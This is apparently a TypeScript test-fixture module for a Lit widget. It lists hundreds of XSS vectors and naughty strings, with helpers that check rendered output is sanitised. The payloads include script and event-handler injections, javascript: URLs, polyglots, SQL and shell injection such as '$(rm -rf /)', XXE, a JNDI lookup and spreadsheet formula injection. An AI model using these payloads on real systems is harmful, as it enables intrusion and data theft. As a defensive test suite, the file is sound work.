/**
 * Hostile text: XSS vectors and "naughty strings", written for these tests (nothing
 * downloaded). Every payload that could run script, if it ever ran, sets the trap
 * global `__xssTrap` (`window.__xssTrap = 1`, `top.__xssTrap=1`, …) — never `alert`,
 * which would block a headless browser — so a test asserts `window.__xssTrap === undefined`.
 *
 * Groups are named for the report. `ALL_PAYLOADS` is every payload once (the tests check
 * they are distinct); `URL_PAYLOADS` are the ones meant for URL fields (they go into the
 * text fields too, and every payload also goes into the URL fields).
 */

/** The global a payload sets if it runs. */
export const TRAP = '__xssTrap';

/** `window.__xssTrap` (undefined unless a payload ran). */
export function trapValue(): unknown {
  return (window as unknown as Record<string, unknown>)[TRAP];
}

const T = 'window.__xssTrap=1';
const TOP = 'top.__xssTrap=1';

/** `<script>` in many spellings. */
const scriptTags: string[] = [
  `<script>${T}</script>`,
  `<SCRIPT>${T}</SCRIPT>`,
  `<ScRiPt>${T}</sCrIpT>`,
  `<script >${T}</script >`,
  `<script/x>${T}</script>`,
  `<script\n>${T}</script\n>`,
  `<script\t type="text/javascript">${T}</script>`,
  `<script type="module">${T}</script>`,
  `<script src="data:text/javascript,${T}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<<script>script>${T}<</script>/script>`,
  `<scr<script>ipt>${T}</scr</script>ipt>`,
  `</title><script>${T}</script>`,
  `</textarea><script>${T}</script>`,
  `</style><script>${T}</script>`,
  `</script><script>${T}</script>`,
  `"><script>${T}</script>`,
  `'><script>${T}</script>`,
  `<script>/*</script>*/${T}</script>`,
  `<script>${TOP}</script>`,
  `<script>eval('${T}')</script>`,
  `<script>setTimeout('${T}')</script>`,
  `<script>self['__xss'+'Trap']=1</script>`,
  `<svg><script>${T}</script></svg>`,
  `<template><script>${T}</script></template>`,
  `<noscript><p title="</noscript><script>${T}</script>">`,
  `%3Cscript%3E${T}%3C%2Fscript%3E`,
  `\\x3cscript\\x3e${T}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${T}\\u003c/script\\u003e`,
  `＜script＞${T}＜/script＞`,
  `<script\u0000>${T}</script>`,
  `<script>document.write('<img src=x onerror=${T}>')</script>`,
];

/** `<img src=x onerror>` and friends. */
const imgTags: string[] = [
  `<img src=x onerror=${T}>`,
  `<img src=x onerror="${T}">`,
  `<IMG SRC=x ONERROR=${T}>`,
  `<img src=x oNeRrOr='${T}'>`,
  `<img/src/onerror=${T}>`,
  `<img src=x onerror\n=${T}>`,
  `<img src="x\` \`<script>${T}</script>"\` \`>`,
  `<img src=x onerror=self['__xss'+'Trap']=1>`,
  `<img src=x onerror="${TOP}">`,
  `<img src="javascript:${T}">`,
  `<img dynsrc="javascript:${T}">`,
  `<img src=x:x onerror=eval(atob('d2luZG93Ll9feHNzVHJhcD0x'))>`,
  `<image src=x onerror=${T}>`,
  `<img srcset=",,,,,x" onerror=${T}>`,
];

/** Event-handler attributes. */
const eventHandlers: string[] = [
  `<body onload=${T}>`,
  `<body onpageshow=${T}>`,
  `<input autofocus onfocus=${T}>`,
  `<select autofocus onfocus=${T}></select>`,
  `<textarea autofocus onfocus=${T}></textarea>`,
  `<details open ontoggle=${T}>`,
  `<video><source onerror=${T}></video>`,
  `<audio src=x onerror=${T}>`,
  `<iframe onload=${T}></iframe>`,
  `<marquee onstart=${T}>x</marquee>`,
  `<div onmouseover="${T}">hover</div>`,
  `<object data=x onerror=${T}></object>`,
  `<style onload=${T}></style>`,
  `<link rel=stylesheet href=x onerror=${T}>`,
  `<x contenteditable autofocus onfocus=${T}>`,
  `<div onpointerenter=${T}>x</div>`,
  `<form><button formaction="javascript:${T}">x</button></form>`,
  `<input type=image src=x onerror=${T}>`,
  `" onmouseover="${T}`,
  `' onfocus='${T}' autofocus='`,
  `" autofocus onfocus="${T}`,
  `onerror=${T}`,
  `<a onclick="${T}">click</a>`,
  `<button onclick=${T}>press</button>`,
  `<svg onload=${T}>`,
  `<body/onload=${T}>`,
];

/** `javascript:` URLs: case, leading spaces and control characters, entities, splits, percent-encoding. */
const javascriptUrls: string[] = [
  `javascript:${T}`,
  `JAVASCRIPT:${T}`,
  `JaVaScRiPt:${T}`,
  `JavaScript:${T}`,
  ` javascript:${T}`,
  `\tjavascript:${T}`,
  `\njavascript:${T}`,
  `\r\njavascript:${T}`,
  `\u0000javascript:${T}`,
  `\u0001javascript:${T}`,
  `\u001fjavascript:${T}`,
  `\u000bjavascript:${T}`,
  `\u00a0javascript:${T}`,
  `java\tscript:${T}`,
  `java\nscript:${T}`,
  `java\rscript:${T}`,
  `java\u0000script:${T}`,
  `jav&#x09;ascript:${T}`,
  `&#106;avascript:${T}`,
  `&#x6A;avascript:${T}`,
  `&#0000106;avascript:${T}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${T}`,
  `javascript&colon;${T}`,
  `javascript&#58;${T}`,
  `%6A%61%76%61%73%63%72%69%70%74:${T}`,
  `%6Aavascript:${T}`,
  `javascript%3A${T}`,
  `javascript://%0A${T}`,
  `javascript://example.org/%0a${T}`,
  `javascript:void(${T})`,
  `javascript:top['__xssTrap']=1`,
  `javascript:${T};//https://example.org/`,
  ` \t\r\n JaVa\tScRiPt : ${T}`,
  `javascript\u200b:${T}`,
  `<a href="javascript:${T}">click</a>`,
];

/** `data:` URLs. */
const dataUrls: string[] = [
  `data:text/html,<script>${TOP}</script>`,
  `DATA:text/html,<script>${TOP}</script>`,
  ` data:text/html,<script>${TOP}</script>`,
  `data:text/html;base64,${btoa(`<script>${TOP}</script>`)}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${TOP}"/>`,
  `data:text/javascript,${TOP}`,
  `data:application/x-javascript,${TOP}`,
  `data:,${TOP}`,
  `d&#97;ta:text/html,<script>${TOP}</script>`,
  `%64ata:text/html,<script>${TOP}</script>`,
  `data:text/html;charset=utf-7,+ADw-script+AD4-${TOP}+ADw-/script+AD4-`,
];

/** `vbscript:` and other dead schemes (they must not become links either). */
const vbscriptUrls: string[] = [
  `vbscript:window.execScript("${T}","javascript")`,
  `VBSCRIPT:window.execScript("${T}","javascript")`,
  `VbScRiPt:window.execScript("${T}","javascript")`,
  ` vbscript:window.execScript("${T}","javascript")`,
  `vb\tscript:window.execScript("${T}","javascript")`,
  `&#118;bscript:window.execScript("${T}","javascript")`,
  `livescript:${T}`,
  `mocha:${T}`,
];

/** Addresses that look like web links but carry a trick (several are valid http(s) links). */
const trickyUrls: string[] = [
  `https://example.org/"><script>${T}</script>`,
  `https://example.org/?q="><img src=x onerror=${T}>`,
  `http://example.org/" onmouseover="${T}`,
  `https://example.org/#javascript:${T}`,
  `HTTPS://EXAMPLE.ORG/UPPER`,
  `hTtPs://example.org/mixed`,
  `https://user:pass@example.org/`,
  `https://example.org@evil.example/`,
  `http://javascript:${T}`,
  `https://xn--80ak6aa92e.com/`,
  `https://example.org/\u202egnp.exe`,
  `https://example.org/%00%0d%0a`,
  `https://ex ample.org/`,
  `https://example.org/${'a'.repeat(2000)}`,
  `//evil.example/`,
  `/relative/path`,
  `#fragment`,
  `?query=1`,
  `ftp://example.org/file`,
  `file:///etc/passwd`,
  `blob:https://example.org/5f0e2b1c`,
  `about:blank`,
  `chrome://settings`,
  `intent://scan/#Intent;scheme=zxing;end`,
  `ws://example.org/socket`,
  `view-source:https://example.org/`,
  `mailto:x@example.org?body=<script>${T}</script>`,
  `tel:+1<script>${T}</script>`,
  `sms:+15555555555?body=hi`,
  `\\\\evil.example\\share`,
  `https:\\\\evil.example\\`,
  `http:/\\evil.example/`,
  `https://[::1]/`,
  `https://127.0.0.1:8000/`,
  `\ud800x@example.org`,
  `x\ud800@example.org`,
  `a<script>@example.org`,
  `user+tag@example.org`,
  `"quoted"@example.org`,
  `x@example.org?subject=<script>${T}</script>`,
  `+503 2200 0000 ext. 1`,
  `+1 (809) 555-0100`,
];

/** SVG and MathML. */
const svgMath: string[] = [
  `<svg/onload=${T}>`,
  `<svg><animate onbegin=${T} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${T}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><a href="javascript:${T}"><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${T}>`,
  `<svg><script href="data:,${T}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${TOP}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${TOP}'/></svg>#x"/></svg>`,
  `<svg><style><img src=x onerror=${T}></style></svg>`,
  `<svg><title><![CDATA[</title><script>${T}</script>]]></title></svg>`,
  `<svg><desc><![CDATA[</desc><script>${T}</script>]]></desc></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${T}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${T}">CLICK</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${T}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${T}>`,
  `<noscript><style></noscript><img src=x onerror=${T}>`,
];

/** Breaking out of attributes and template languages. */
const breakers: string[] = [
  `"><`,
  `'`,
  `"`,
  '`',
  `'"><`,
  `"'--></style></script>`,
  '`${' + T + '}`',
  '${' + T + '}',
  `{{constructor.constructor('${T}')()}}`,
  `{{$on.constructor('${T}')()}}`,
  `{{7*7}}`,
  `#{7*7}`,
  `<%= 7*7 %>`,
  `[[7*7]]`,
  `\\"`,
  `\\`,
  `\\u0022`,
  `]]>`,
  `<![CDATA[<script>${T}</script>]]>`,
  `<!--`,
  `-->`,
  `<!-- <script>${T}</script> -->`,
  `</a><a href="javascript:${T}">x</a>`,
  `<base href="javascript:/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${T}">`,
  `<form action="javascript:${T}"><input type=submit></form>`,
  `<iframe src="javascript:${T}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xssTrap=1</script>"></iframe>`,
  `<object data="javascript:${T}"></object>`,
  `<embed src="javascript:${T}">`,
  `<frameset onload=${T}>`,
  `<plaintext>`,
  `<xmp><script>${T}</script></xmp>`,
];

/** Lit's own markers, which must stay text. */
const litMarkers: string[] = [
  `<!--?lit$123456789$-->`,
  `lit$123456789$`,
  `<?lit$123456789$>`,
  `<!--?lit$0$--><script>${T}</script>`,
  `<!--?-->`,
  `<!---->`,
  `?lit$1234$=`,
  `<!--lit-part cG9ueQ==-->`,
  `<!--/lit-part-->`,
  `<template shadowrootmode="open"><script>${T}</script><slot></slot></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror=${T}></template></div>`,
];

/** CSS tricks. */
const cssPayloads: string[] = [
  `expression(${T})`,
  `x:expression(${T})`,
  `background:url(javascript:${T})`,
  `url("javascript:${T}")`,
  `<style>*{background:url(javascript:${T})}</style>`,
  `<div style="background-image:url(javascript:${T})">x</div>`,
  `<style>@import 'javascript:${T}';</style>`,
  `-moz-binding:url(https://evil.example/xss.xml#x)`,
  `behavior:url(x.htc)`,
  `</style><style>*{display:none!important}</style>`,
  `<style>:host{display:none!important}</style>`,
  `--mipyme-color-primary: red; } * { display: none`,
  `<div style="width:expression(${T})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>`,
  `<p style="font-size:999px">huge</p>`,
];

/** Polyglots (alert forms replaced by the trap). */
const polyglots: string[] = [
  // 0xsobky's polyglot.
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${T} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${T}//>\\x3e`,
  // Mathias Karlsson's.
  `" onclick=${T}//<button ' onclick=${T}//> */ ${T}//`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${T}//'>`,
  `'">><marquee><img src=x onerror=${T}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${T}><script>${T}</script>@example.org<isindex formaction=javascript:${T} type=submit>'-->"></script><script>${T}</script>"><img/id="${T}"/alt="/"src="/"onerror=eval(id)>'">`,
  `';${T}//';${T}//";${T}//";${T}//--></SCRIPT>">'><SCRIPT>${T}</SCRIPT>`,
  `'';!--"<XSS>=&{()}`,
  `--></script><script>${T}</script>`,
  `'"--></style></script><script>${T}</script><img src=x onerror=${T}>`,
];

/** Bidirectional, invisible, combining, emoji, surrogates, control characters. */
const unicode: string[] = [
  `\u202egnp.exe`,
  `abc\u202edef\u202cghi`,
  `\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069`,
  `\u200f\u200e\u061c`,
  `مرحبا بالعالم`,
  `שלום עולם`,
  `abc \u05d0\u05d1\u05d2 123 \u0627\u0644`,
  `a\u200bb\u200bc`,
  `\u200c\u200d\u2060`,
  `\u200b`,
  `\ufefftext with a BOM`,
  `\ufeff`,
  `soft\u00adhyphen`,
  `Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇`,
  `e\u0301 vs \u00e9`,
  `a${'\u0301'.repeat(200)}`,
  `👩‍👩‍👧‍👦 family`,
  `🇸🇻🇬🇹🇭🇳🇳🇮🇩🇴`,
  `👍🏽👍🏿`,
  `1️⃣ 🏳️‍🌈 🏴‍☠️`,
  `\ud83d`,
  `\ude00`,
  `\ude00\ud83d`,
  `abc\ud800def`,
  `\u0000`,
  `a\u0000b`,
  `\u0001\u0002\u0007\u0008\u001b[31mred`,
  `\u007f`,
  `\u0080\u0085\u009f`,
  `line\u2028separator\u2029paragraph`,
  `ｓｃｒｉｐｔ ＡＢＣ １２３`,
  `田中さんにあげて下さい`,
  `ヽ༼ຈل͜ຈ༽ﾉ`,
  `\ufffd\uffff\ufffe`,
  `\ue000 private use`,
  `\u{e0041}\u{e0042} tags`,
  `\u3164\u2800\u180e`,
  `\u3000\u00a0\u202f`,
  `\t`,
  `\r\n`,
  `   `,
  ``,
  `tab\tnew\nline\rreturn`,
];

/** Very long strings. */
const longStrings: string[] = [
  'A'.repeat(10_000),
  'x'.repeat(100_000),
  'W'.repeat(5_000),
  'word '.repeat(2_000),
  `<script>${T}</script>`.repeat(300),
  '😀'.repeat(5_000),
  'e\u0301'.repeat(3_000),
  'm'.repeat(1_000),
  'L'.repeat(300),
  'n'.repeat(120),
  'k'.repeat(80),
];

/** Numbers that are not, and names that JavaScript objects already have. */
const numbersAndProto: string[] = [
  '0',
  '-0',
  '1e309',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x1F',
  '1,000.50',
  '1.000,50',
  '١٢٣',
  '９９',
  '+503 2200 0000',
  '00000000000000000000',
  '9007199254740993',
  '-1',
  '1/0',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '[object Object]',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  '__proto__.polluted',
  '{"__proto__":{"polluted":1}}',
  'constructor.prototype.polluted',
];

/** SQL, shell, paths, formats, spreadsheet formulas, `String.replace` patterns. */
const misc: string[] = [
  `' OR '1'='1`,
  `'; DROP TABLE users;--`,
  `" OR ""="`,
  `admin'--`,
  `1' UNION SELECT NULL--`,
  `$(rm -rf /)`,
  '`id`',
  `; ls -la`,
  `| cat /etc/passwd`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\win.ini`,
  `%00`,
  `%0d%0aSet-Cookie: x=1`,
  `\r\nSet-Cookie: x=1`,
  `=HYPERLINK("https://evil.example","x")`,
  `=1+2`,
  `+SUM(1,2)`,
  `-2+3`,
  `@SUM(1)`,
  `=cmd|' /C calc'!A0`,
  `%s%s%s%n`,
  `AAAA%08x.%08x`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>`,
  '${jndi:ldap://evil.example/a}',
  `$&`,
  `$'`,
  '$`',
  `$$`,
  `$1`,
];

/** HTML that must show as its own source text. */
const markup: string[] = [
  `&lt;b&gt;bold&lt;/b&gt;`,
  `&amp;lt;`,
  `&#60;script&#62;${T}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${T}&#x3E;`,
  `&quot;&apos;&nbsp;&`,
  `&#0;&#xD800;`,
  `<b>bold</b>`,
  `<h1>Big</h1>`,
  `<marquee>moving</marquee>`,
  `<table><tr><td>cell`,
  `<br><hr>`,
  `<a href="https://evil.example">a link</a>`,
  `<slot></slot>`,
  `<dialog open>modal</dialog>`,
  `[click](javascript:${T})`,
  `see [click]( JAVASCRIPT:${T} ) here`,
  `[x](&#106;avascript:${T})`,
  `![pixel](https://evil.example/pixel.png)`,
  `[ref]: javascript:${T}`,
  `<javascript:${T}>`,
  `[safe](https://example.org) and [mail](mailto:x@example.org)`,
];

/** Every group, by name (the report counts them). */
export const PAYLOAD_GROUPS: Readonly<Record<string, readonly string[]>> = {
  scriptTags,
  imgTags,
  eventHandlers,
  javascriptUrls,
  dataUrls,
  vbscriptUrls,
  trickyUrls,
  svgMath,
  breakers,
  litMarkers,
  cssPayloads,
  polyglots,
  unicode,
  longStrings,
  numbersAndProto,
  misc,
  markup,
};

/** Every payload once, in group order. */
export const ALL_PAYLOADS: readonly string[] = Object.values(PAYLOAD_GROUPS).flat();

/** The payloads meant for URL fields (web addresses, e-mail, phone). */
export const URL_PAYLOADS: readonly string[] = [...javascriptUrls, ...dataUrls, ...vbscriptUrls, ...trickyUrls];

/** A short, printable name for a payload in test titles and messages. */
export function describePayload(payload: string): string {
  const shown = JSON.stringify(payload.length > 60 ? `${payload.slice(0, 60)}…` : payload);
  return payload.length > 60 ? `${shown} (${payload.length} chars)` : shown;
}

// ---------------------------------------------------------------- checks shared by the two test files

/** The elements the widgets draw; anything else in a shadow root came from text that was parsed. */
export const WIDGET_TAGS: ReadonlySet<string> = new Set([
  'div', 'span', 'p', 'strong', 'h2', 'h3', 'a', 'button', 'label', 'input', 'select', 'option', 'textarea', 'form',
  'fieldset', 'legend', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'nav', 'section', 'figure', 'details', 'summary',
  'dialog', 'progress', 'svg', 'rect', 'line', 'polyline', 'circle', 'text', 'title', 'desc',
]);
/** The elements of the plan's HTML export (its one `<style>` and CSP `<meta>` are checked apart). */
export const EXPORT_TAGS: ReadonlySet<string> = new Set([
  'html', 'head', 'meta', 'title', 'style', 'body', 'header', 'main', 'nav', 'section', 'div', 'p', 'a', 'ol', 'li',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'table', 'thead', 'tbody', 'tr', 'th', 'td',
]);
/** The calculator's print page. */
export const PRINT_TAGS: ReadonlySet<string> = new Set(['html', 'head', 'title', 'style', 'body', 'h1', 'p', 'table', 'tbody', 'tr', 'th', 'td']);
/** Attributes that load or run something, or style from text. */
const FORBIDDEN_ATTRIBUTES = new Set(['src', 'srcdoc', 'srcset', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'ping', 'style', 'http-equiv', 'content', 'is']);
/** The only protocols a link may have. */
export const SAFE_PROTOCOLS: readonly string[] = ['https:', 'http:', 'mailto:', 'tel:'];

/** Why a link's `href` is not safe, or undefined when it is an absolute https/http/mailto/tel address. */
export function unsafeHref(href: string | null): string | undefined {
  if (href === null) return 'a link without an address';
  let url: URL;
  try {
    url = new URL(href);
  } catch {
    return `a relative or unreadable address ${describePayload(href)}`;
  }
  return SAFE_PROTOCOLS.includes(url.protocol) ? undefined : `protocol ${url.protocol} in ${describePayload(href)}`;
}

/** Every element under `root`, through nested shadow roots. */
export function allElements(root: ParentNode): Element[] {
  const out: Element[] = [];
  for (const element of root.querySelectorAll('*')) {
    out.push(element);
    if (element.shadowRoot) out.push(...allElements(element.shadowRoot));
  }
  return out;
}

/**
 * What is unsafe under `root` (a widget's shadow root, with its dialogs, or an exported document):
 * elements the widget does not draw (`allowed`), `on*` and loading attributes, `style` attributes,
 * SVG other than the chart, links that are not absolute https/http/mailto/tel (`allowFragments`:
 * `#id` links of a document's own table of contents). `exempt` elements (an export's own
 * `<style>` and CSP `<meta>`) are skipped.
 */
export function unsafeFindings(
  root: ParentNode,
  options: { allowed?: ReadonlySet<string>; allowFragments?: boolean; exempt?: ReadonlySet<Element> } = {},
): string[] {
  const allowed = options.allowed ?? WIDGET_TAGS;
  const findings: string[] = [];
  for (const element of allElements(root)) {
    if (options.exempt?.has(element)) continue;
    const name = element.localName.toLowerCase();
    const where = `<${name}${element.id ? `#${element.id}` : ''}>`;
    if (!allowed.has(name)) findings.push(`${where}: an element the widget does not draw`);
    if (element.namespaceURI === 'http://www.w3.org/2000/svg') {
      const chart = element.closest('svg');
      if (!chart || !chart.classList.contains('chart')) findings.push(`${where}: SVG other than the chart`);
    } else if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
      findings.push(`${where}: namespace ${element.namespaceURI}`);
    }
    if (element.shadowRoot) findings.push(`${where}: a shadow root`);
    for (const attribute of Array.from(element.attributes)) {
      const attr = attribute.name.toLowerCase();
      if (attr.startsWith('on')) findings.push(`${where}: event handler attribute ${attr}`);
      if (FORBIDDEN_ATTRIBUTES.has(attr)) findings.push(`${where}: attribute ${attr}=${describePayload(attribute.value)}`);
      if (attr === 'href') {
        if (name !== 'a') findings.push(`${where}: href on a <${name}>`);
        else if (!(options.allowFragments && /^#[A-Za-z0-9_-]+$/.test(attribute.value))) {
          const why = unsafeHref(attribute.value);
          if (why) findings.push(`${where}: ${why}`);
        }
      }
    }
  }
  return findings;
}

/** `<tag.class#id>` for messages. */
function describeElement(node: Element): string {
  const classes = node.getAttribute('class')?.trim().replace(/\s+/g, '.');
  return `<${node.localName}${classes ? `.${classes}` : ''}${node.id ? `#${node.id}` : ''}>`;
}

/** Layout: the widget stays in its container, no text runs out of its box (except inside the grid's own scroller). */
export function layoutFindings(host: HTMLElement, container: HTMLElement, options: { elements?: boolean } = {}): string[] {
  const findings: string[] = [];
  const root = host.shadowRoot!;
  const base = root.querySelector<HTMLElement>('.base');
  if (!base) return ['no .base frame'];
  const containerWidth = container.getBoundingClientRect().width;
  const hostBox = host.getBoundingClientRect();
  if (hostBox.width > containerWidth + 1) findings.push(`host ${hostBox.width}px wider than its ${containerWidth}px container`);
  if (host.scrollWidth > host.clientWidth + 1) findings.push(`host scrollWidth ${host.scrollWidth} > clientWidth ${host.clientWidth}`);
  if (base.scrollWidth > base.clientWidth + 1) findings.push(`.base scrollWidth ${base.scrollWidth} > clientWidth ${base.clientWidth}`);
  // Quick mode: the frame alone (text running out of any box shows in its scroll width).
  if (options.elements === false) return findings;
  const baseBox = base.getBoundingClientRect();
  const scroller = root.querySelector('.grid-wrap');
  const describe = describeElement;
  const offending = new Map<Element, string>();
  for (const node of root.querySelectorAll('*')) {
    if (scroller && scroller.contains(node) && node !== scroller) continue;
    if (node.closest('dialog') || node.closest('.visually-hidden') || node.classList.contains('file-input')) continue;
    if (node.closest('svg') && node.localName !== 'svg') continue;
    const box = node.getBoundingClientRect();
    if (box.width === 0 && box.height === 0) continue;
    if (box.right > baseBox.right + 1 || box.left < baseBox.left - 1) {
      offending.set(node, `${describe(node)} [${Math.round(box.left)}, ${Math.round(box.right)}] outside .base [${Math.round(baseBox.left)}, ${Math.round(baseBox.right)}]`);
      continue;
    }
    const element = node as HTMLElement;
    if (['input', 'select', 'textarea', 'option'].includes(node.localName) || node === scroller) continue;
    if (element.clientWidth > 0 && element.scrollWidth > element.clientWidth + 1) {
      offending.set(node, `${describe(node)} content ${element.scrollWidth}px wider than its ${element.clientWidth}px box`);
    }
  }
  // The innermost first: they name the culprit (their ancestors only follow).
  const innermost = [...offending].filter(([node]) => ![...offending.keys()].some((other) => other !== node && node.contains(other)));
  findings.unshift(...innermost.map(([, text]) => text));
  findings.push(...[...offending].filter((entry) => !innermost.includes(entry)).map(([, text]) => text));
  for (const dialog of root.querySelectorAll('dialog')) findings.push(...dialogLayoutFindings(dialog));
  return findings;
}

/** An open dialog fits the viewport, and nothing in it runs out of it sideways. */
export function dialogLayoutFindings(dialog: HTMLDialogElement): string[] {
  const findings: string[] = [];
  if (!dialog.open) return findings;
  if (dialog.scrollWidth > dialog.clientWidth + 1) findings.push(`dialog scrollWidth ${dialog.scrollWidth} > clientWidth ${dialog.clientWidth}`);
  const box = dialog.getBoundingClientRect();
  if (box.right > window.innerWidth + 1 || box.left < -1) findings.push(`dialog [${box.left}, ${box.right}] outside the viewport`);
  for (const node of dialog.querySelectorAll('*')) {
    const inner = node.getBoundingClientRect();
    if (inner.width === 0 && inner.height === 0) continue;
    if (node.closest('.visually-hidden')) continue;
    if (inner.right > box.right + 1 || inner.left < box.left - 1) findings.push(`${describeElement(node)} outside the dialog`);
    const element = node as HTMLElement;
    if (element.clientWidth > 0 && element.scrollWidth > element.clientWidth + 1) findings.push(`${describeElement(node)} content wider than its box in the dialog`);
  }
  return findings;
}

/** Collects `error` and `unhandledrejection` events of the window while a test runs. */
export function watchErrors(): { readonly errors: string[]; stop(): void } {
  const errors: string[] = [];
  const onError = (event: ErrorEvent) => errors.push(`error: ${event.message}`);
  const onRejection = (event: PromiseRejectionEvent) =>
    errors.push(`unhandled rejection: ${event.reason instanceof Error ? `${event.reason.name}: ${event.reason.message}` : String(event.reason)}`);
  window.addEventListener('error', onError);
  window.addEventListener('unhandledrejection', onRejection);
  return {
    errors,
    stop() {
      window.removeEventListener('error', onError);
      window.removeEventListener('unhandledrejection', onRejection);
    },
  };
}

/** Let the widget render, and any rejected promise or error event come out (a task, then a frame). */
export async function settle(el?: { updateComplete: Promise<unknown> }): Promise<void> {
  if (el) await el.updateComplete;
  await new Promise((resolve) => setTimeout(resolve, 0));
  await new Promise((resolve) => requestAnimationFrame(resolve));
  if (el) await el.updateComplete;
}

/** Stops links from really opening (the click still reaches the widget first). */
export function blockNavigation(event: Event): void {
  if ((event.composedPath()[0] as Element).closest?.('a')) event.preventDefault();
}

/** Lone surrogates (as the HTML export writes them: U+FFFD). */
export const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

/** What the plan's exports promise for a feed text on one line: control characters dropped, spaces collapsed. */
export function exportedLine(text: string): string {
  return text
    .replace(/\r\n?/g, '\n')
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '')
    .replace(LONE_SURROGATE, '\ufffd')
    .replace(/\s+/g, ' ')
    .trim();
}

/** Whether the character at `index` is escaped (preceded by an odd number of backslashes). */
function escapedAt(text: string, index: number): boolean {
  let count = 0;
  for (let i = index - 1; i >= 0 && text[i] === '\\'; i--) count++;
  return count % 2 === 1;
}

/** Where a Markdown text links to: inline links and reference definitions whose brackets are not escaped. */
function markdownDestinations(markdown: string): string[] {
  const out: string[] = [];
  for (const match of markdown.matchAll(/\]\(\s*<?([^)\s>]*)/g)) if (!escapedAt(markdown, match.index!)) out.push(match[1]!);
  for (const match of markdown.matchAll(/^ {0,3}\[[^\]\n]+\]:\s*<?(\S*)/gm)) out.push(match[1]!);
  return out;
}

/** Why a Markdown export is not safe: raw HTML or an autolink (`<` not escaped), or a link that is not to a heading or an https/http/mailto/tel address. */
export function markdownProblems(markdown: string): string[] {
  const found: string[] = [];
  for (const match of markdown.matchAll(/</g)) {
    if (!escapedAt(markdown, match.index!)) {
      found.push(`an unescaped < (HTML or an autolink) in ${describePayload(markdown.slice(Math.max(0, match.index! - 20), match.index! + 20))}`);
      break;
    }
  }
  for (const destination of markdownDestinations(markdown)) {
    if (!/^(#|https?:\/\/|mailto:|tel:)/i.test(destination)) found.push(`a link to ${describePayload(destination)}`);
  }
  return found;
}
